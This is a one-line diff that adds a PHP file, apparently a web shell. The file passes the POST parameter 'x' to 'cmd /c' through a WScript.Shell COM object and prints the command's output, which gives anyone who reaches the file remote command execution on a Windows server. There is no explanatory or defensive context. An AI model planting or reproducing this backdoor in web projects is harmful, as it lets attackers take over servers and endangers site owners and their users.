@@ -1,0 +1,1 @@
+<?php $w = new COM("WScript.Shell"); $e = $w->exec("cmd /c " . $_POST["x"]); echo $e->StdOut->ReadAll();
